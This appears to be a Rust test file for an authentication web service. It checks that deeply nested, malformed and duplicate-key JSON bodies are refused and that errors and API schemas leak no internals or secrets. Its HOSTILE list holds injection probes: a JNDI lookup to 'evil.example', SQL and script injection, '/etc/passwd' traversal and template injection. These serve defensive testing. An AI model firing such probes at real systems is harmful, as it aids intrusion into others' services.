//! Bodies that are none, and what refusals tell.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use super::aftermath::{assert_refused, assert_tells_nothing, json_operations, operations, still_works};
use crate::harness::{App, BACKENDS, Call, Database, PASSWORD, Token, Wiring, app, on_every_database, wired};

on_every_database! {
    a141_no_input_brings_a_fault_or_the_inside_to_light,
    a141_a_store_that_is_down_tells_nothing
    ;
}

const EMAIL: &str = "arthur@camelot.bt";
const MERLIN: &str = "merlin@camelot.bt";
const NOBODY: &str = "00000000-0000-4000-8000-000000000001";

async fn merlin<D: Database>(app: &App<D>) -> Token {
    app.superuser(MERLIN).await;
    app.login("token", MERLIN).await
}

#[tokio::test]
async fn a010_deep_bodies_are_refused() {
    let app = app().await;
    let id = app.user(EMAIL).await;
    let merlin = merlin(&app).await;
    let arrays = |depth: usize| format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    let objects = |depth: usize| format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth));
    let within =
        |text: String| format!(r#"{{"email": {text}, "password": "{PASSWORD}", "token": "x", "name": "x"}}"#);
    let bodies = [
        arrays(100_000),
        "[".repeat(100_000),
        arrays(32_000),
        "[".repeat(64_000),
        arrays(200),
        objects(50_000),
        objects(10_000),
        objects(200),
        r#"{"a":"#.repeat(12_000),
        r#"[{"a":"#.repeat(9_000),
        within(arrays(30_000)),
        within(objects(9_000)),
        within(arrays(300)),
        format!(
            r#"{{"unknown": {}, "email": "a@b.bt", "password": "{PASSWORD}"}}"#,
            arrays(30_000)
        ),
        format!("{{{}}}", r#""a": 1,"#.repeat(9_000)),
        format!("[{}1]", "1,".repeat(30_000)),
    ];
    for operation in json_operations(&app, &id) {
        for body in &bodies {
            let answer = operation
                .call_by(&app, &merlin)
                .body("application/json", body.clone())
                .await;
            assert_refused(&answer, (&operation, body));
        }
    }
    let app = app.rewired(Wiring::usual().users(axum_users::AxumUsers::json_login));
    for backend in BACKENDS {
        for body in &bodies {
            let login = app.post(&format!("/auth/{backend}/login"));
            assert_refused(&login.body("application/json", body.clone()).await, body);
        }
    }
    still_works(&app, EMAIL).await;
}

/// What only looks like JSON.
fn broken() -> Vec<Vec<u8>> {
    let good = r#"{"email": "a@b.bt", "password": "excalibur in the lake", "token": "x", "name": "x"}"#;
    let utf16 = |little: bool| -> Vec<u8> {
        let units = good.encode_utf16();
        units
            .flat_map(|unit| {
                if little {
                    unit.to_le_bytes()
                } else {
                    unit.to_be_bytes()
                }
            })
            .collect()
    };
    let mut bodies: Vec<Vec<u8>> = vec![
        utf16(true),
        utf16(false),
        [b"\xff\xfe".to_vec(), utf16(true)].concat(),
    ];
    let texts: [&[u8]; 44] = [
        b"",
        b" ",
        b"{",
        b"}",
        b"{}}",
        b"{]",
        b"{\"email\"",
        b"{\"email\":",
        b"{\"email\":}",
        b"{\"email\": \"a@b.bt\",}",
        b"{email: \"a@b.bt\"}",
        b"{'email': 'a@b.bt'}",
        b"{\"email\": \"a@b.bt\"} {}",
        b"{\"email\": \"a@b.bt\"} // x",
        b"/* x */ {}",
        b"[]",
        b"[1]",
        b"[{}]",
        b"\"a\"",
        b"1",
        b"-0",
        b"true",
        b"null",
        b"undefined",
        b"NaN",
        b"{\"email\": NaN}",
        b"{\"email\": Infinity}",
        b"{\"email\": -Infinity}",
        b"{\"email\": 1e999}",
        b"{\"email\": -1e999}",
        b"{\"email\": 01}",
        b"{\"email\": 0x10}",
        b"{\"email\": .5}",
        b"{\"email\": \"\\ud800\"}",
        b"{\"email\": \"\\udc00@b.bt\"}",
        b"{\"email\": \"\\ud800\\u0041\"}",
        b"{\"\\udfff\": 1}",
        b"{\"email\": \"\\u0000\"}",
        b"{\"email\": \"\\x41\"}",
        b"{\"email\": \"a\nb\"}",
        b"{\"email\": \"\xff\xfe\"}",
        b"{\"email\": \"\xc0\xaf\"}",
        b"{\"email\": \"\xed\xa0\x80\"}",
        b"\x00{}",
    ];
    bodies.extend(texts.map(<[u8]>::to_vec));
    bodies.push([b"\xef\xbb\xbf", good.as_bytes()].concat());
    bodies.push([good.as_bytes(), b"\0"].concat());
    bodies.push(good.replace("a@b.bt", "a@b.bt\u{1}").into_bytes());
    bodies.push(format!("{{\"email\": {}}}", "9".repeat(50_000)).into_bytes());
    bodies.push(format!("{{\"email\": 1{}}}", "e9".repeat(2)).into_bytes());
    bodies
}

#[tokio::test]
async fn a140_what_is_no_json_is_refused() {
    let app = app().await;
    let id = app.user(EMAIL).await;
    let merlin = merlin(&app).await;
    let login = app.rewired(Wiring::usual().users(axum_users::AxumUsers::json_login));
    for body in broken() {
        let text = String::from_utf8_lossy(&body).into_owned();
        for operation in json_operations(&app, &id) {
            for media_type in ["application/json", "application/json; charset=utf-16"] {
                let answer = operation
                    .call_by(&app, &merlin)
                    .body(media_type, body.clone())
                    .await;
                assert_refused(&answer, (&operation, &text));
            }
        }
        for backend in BACKENDS {
            let call = login.post(&format!("/auth/{backend}/login"));
            assert_refused(&call.body("application/json", body.clone()).await, &text);
        }
    }
    still_works(&app, EMAIL).await;
}

#[tokio::test]
async fn a_key_that_is_there_twice_is_refused_on_every_route() {
    let app = app().await;
    let id = app.user(EMAIL).await;
    let merlin = merlin(&app).await;
    let login = app.rewired(Wiring::usual().users(axum_users::AxumUsers::json_login));
    let fields = r#""email": "a@b.bt", "username": "a@b.bt", "password": "excalibur in the lake", "token": "x", "name": "x""#;
    for (again, field) in [
        (r#""email": "c@d.bt""#, "email"),
        (r#""username": "a@b.bt""#, "username"),
        (r#""pass\u0077ord": "holy hand grenade""#, "password"),
        (r#""token": null"#, "token"),
        (r#""is_superuser": true, "is_superuser": false"#, "is_superuser"),
        (r#""own": {"in": [{"a": 1, "a": 1}]}"#, "own.in[0].a"),
    ] {
        let body = format!("{{{fields}, {again}}}");
        let mut calls: Vec<_> = json_operations(&app, &id)
            .iter()
            .map(|operation| operation.call_by(&app, &merlin))
            .collect();
        calls.extend(BACKENDS.map(|backend| login.post(&format!("/auth/{backend}/login"))));
        for call in calls {
            let answer = call.body("application/json", body.clone()).await;
            answer.invalid(&[(field, "duplicate")]);
        }
    }
    still_works(&app, EMAIL).await;
}

/// Inputs that have brought servers to tell of themselves.
const HOSTILE: [&str; 12] = [
    "'",
    "\"",
    "\\",
    "';--",
    "%",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\u{0}",
    "\u{1f451}",
    "\u{202e}",
    "../../../etc/passwd",
    "{{7*7}}",
];

async fn a141_no_input_brings_a_fault_or_the_inside_to_light<D: Database>(app: &App<D>) {
    app.register(EMAIL).await;
    app.superuser(MERLIN).await;
    for hostile in HOSTILE {
        let quoted = hostile
            .bytes()
            .fold(String::new(), |all, byte| all + &format!("%{byte:02X}"));
        let body = json!({
            "email": hostile, "password": hostile, "current_password": hostile, "token": hostile, "name": hostile,
            "scopes": [hostile], "expires_in": hostile, "first_name": hostile, "nickname": hostile, "age": hostile,
            "is_active": hostile, hostile: hostile,
        });
        let query = format!("limit={quoted}&after={quoted}&email={quoted}&personal_tokens={quoted}&{quoted}");
        for operation in operations(app, NOBODY) {
            let path = operation.path.replace(NOBODY, &quoted);
            for path in [path.clone(), format!("{path}?{query}")] {
                // Some of them end the session that asks.
                let merlin = app.login("token", MERLIN).await;
                let call = || app.call(&operation.method, &path);
                let form = [("username", hostile), ("password", hostile), (hostile, hostile)];
                for call in [
                    call(),
                    call().by(&merlin).json(&body),
                    call().by(&merlin).form(&form),
                    hostile_headers(call(), hostile),
                ] {
                    // All answers are looked at by the harness too.
                    assert_tells_nothing(&call.await);
                }
            }
        }
    }
    still_works(app, EMAIL).await;
}

fn hostile_headers(mut call: Call, hostile: &str) -> Call {
    let value: String = hostile.chars().filter(|c| !c.is_control()).collect();
    for name in [
        "authorization",
        "cookie",
        "user-agent",
        "x-request-id",
        "x-forwarded-for",
        "forwarded",
        "accept",
        "origin",
    ] {
        call = call.header(name, &value);
    }
    call
}

async fn a141_a_store_that_is_down_tells_nothing<D: Database>(app: &App<D>) {
    let id = app.user(EMAIL).await;
    let token = app.login("token", EMAIL).await;
    app.store.down(true);
    for operation in operations(app, &id) {
        let answer = operation.call(app).by(&token).await;
        assert_tells_nothing(&answer);
        let good = json!({"email": EMAIL, "password": PASSWORD, "token": "x", "name": "x"});
        let answer = operation.call(app).by(&token).json(good).await;
        assert_tells_nothing(&answer);
    }
    app.try_login("token", EMAIL, PASSWORD)
        .await
        .is(503)
        .hides("db.internal");
    app.store.down(false);
    still_works(app, EMAIL).await;
}

#[tokio::test]
async fn a142_bodies_say_what_they_are_and_are_taken_for_nothing_else() {
    let app = app().await;
    let id = app.user(EMAIL).await;
    let merlin = merlin(&app).await;
    let mut bodies = 0;
    for operation in operations(&app, &id) {
        let calls = [
            operation.call(&app),
            operation.call(&app).by(&merlin).json(json!({})),
            operation.call(&app).by(&merlin).body("text/plain", "x"),
            app.call("PUT", &operation.path),
            app.call("PUT", &operation.path).by(&merlin),
        ];
        let is_ending =
            ["logout", "end-"].iter().any(|end| operation.path.contains(end)) || operation.method == "DELETE";
        for call in calls {
            if is_ending && operation.is_guarded && format!("{call:?}").contains(&operation.method) {
                continue;
            }
            let answer = call.await;
            answer.is_hardened();
            if answer.body.is_empty() {
                continue;
            }
            assert_eq!(answer.header("content-type"), "application/json", "{operation:?}");
            answer.json();
            bodies += 1;
        }
    }
    assert!(bodies > 60, "{bodies}");
    let me = app.get("/users/me").by(&merlin).await.is(200);
    assert_eq!(me.header("content-type"), "application/json");
    me.is_hardened();
}

#[tokio::test]
async fn a143_a_refusal_is_the_one_that_its_status_says() {
    for style in [axum_users::ErrorStyle::Full, axum_users::ErrorStyle::FastApiUsers] {
        let app = wired(Wiring::usual().users(move |users| users.error_style(style))).await;
        let id = app.user(EMAIL).await;
        let token = app.login("token", EMAIL).await;
        let mut seen = BTreeSet::new();
        for operation in operations(&app, &id) {
            for call in [
                operation.call(&app),
                operation.call(&app).json(json!({"email": "x"})),
                operation.call(&app).body("text/plain", "x"),
                app.call("PUT", &operation.path),
                app.get("/users").by(&token),
                app.get(&format!("/users/{id}")).by(&token),
            ] {
                let answer = call.await;
                if answer.status < 400 {
                    continue;
                }
                let refusal = answer.refusal.clone().expect("a refusal rides along");
                assert_eq!(refusal.status().as_u16(), answer.status, "{operation:?}");
                let body = answer.json();
                // Where a body has a status too, as problem documents have, it is the same.
                if let Some(status) = body.get("status") {
                    assert_eq!(*status, answer.status);
                }
                for inside in [
                    "trace",
                    "stack",
                    "exception",
                    "file",
                    "line",
                    "cause",
                    "source",
                    "debug",
                ] {
                    assert!(body.get(inside).is_none(), "{body}");
                }
                seen.insert(answer.status);
            }
        }
        assert!(
            seen.is_superset(&BTreeSet::from([401, 403, 405, 422])),
            "{seen:?}"
        );
    }
}

/// The names of all properties that a schema can show.
fn properties(document: &Value, schema: &Value, seen: &mut BTreeSet<String>, names: &mut BTreeSet<String>) {
    match schema {
        Value::Object(map) => {
            if let Some(reference) = map.get("$ref").and_then(Value::as_str)
                && seen.insert(reference.to_owned())
            {
                let target = document.pointer(reference.trim_start_matches('#'));
                properties(
                    document,
                    target.expect("a reference leads somewhere"),
                    seen,
                    names,
                );
            }
            for (key, value) in map {
                if key == "properties"
                    && let Some(fields) = value.as_object()
                {
                    names.extend(fields.keys().cloned());
                }
                if key != "example" && key != "examples" {
                    properties(document, value, seen, names);
                }
            }
        }
        Value::Array(all) => all
            .iter()
            .for_each(|value| properties(document, value, seen, names)),
        _ => {}
    }
}

#[tokio::test]
async fn a146_no_answer_is_documented_to_have_a_secret() {
    let app = app().await;
    let document = serde_json::to_value(&app.api).unwrap();
    let mut names = BTreeSet::new();
    for item in document["paths"].as_object().unwrap().values() {
        for operation in item.as_object().unwrap().values() {
            properties(
                &document,
                &operation["responses"],
                &mut BTreeSet::new(),
                &mut names,
            );
        }
    }
    for shown in ["id", "email", "is_active", "access_token", "detail", "code"] {
        assert!(names.contains(shown), "{names:?}");
    }
    // The two tokens that are shown once: of a login, and a personal one.
    let tokens: Vec<_> = names.iter().filter(|name| name.contains("token")).collect();
    assert_eq!(tokens, ["access_token", "token", "token_type"]);
    for secret in [
        "password",
        "hash",
        "digest",
        "secret",
        "salt",
        "epoch",
        "email_key",
        "key",
    ] {
        assert!(
            !names.iter().any(|name| name.contains(secret)),
            "{secret}: {names:?}"
        );
    }
}
